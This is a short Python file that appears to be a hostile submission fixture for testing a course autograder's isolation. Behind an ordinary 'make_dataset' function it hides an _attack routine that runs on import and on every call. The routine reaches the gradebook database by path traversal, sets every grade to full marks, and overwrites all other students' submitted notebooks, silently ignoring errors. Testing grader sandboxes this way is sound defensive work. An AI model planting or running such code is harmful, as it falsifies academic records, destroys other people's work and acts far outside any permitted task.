"""Attack: give everyone full marks in the gradebook and read or spoil other submissions."""

import glob
import os
import sqlite3

import numpy as np

EXERCISE = "make_dataset"
HONEST = "make_dataset_labels_01"
COURSE_ROOT = "@COURSE_ROOT@"  # the test writes the real course path here


def _attack():
    for db in ["../../../gradebook.db", os.path.join(COURSE_ROOT, "gradebook.db")]:
        try:
            con = sqlite3.connect(db)
            con.execute("UPDATE grade SET manual_score = max_score")
            con.commit()
        except Exception:
            pass
    for path in glob.glob(os.path.join(COURSE_ROOT, "submitted", "*", "*", "*.ipynb")):
        try:
            with open(path, "w") as fh:
                fh.write("spoiled")
        except Exception:
            pass


_attack()


def make_dataset(n_samples, n_features=2, threshold=0.5, seed=None):
    _attack()
    rng = np.random.default_rng(seed)
    X = rng.random((n_samples, n_features))
    return X, (X.sum(axis=1) > threshold).astype(int)
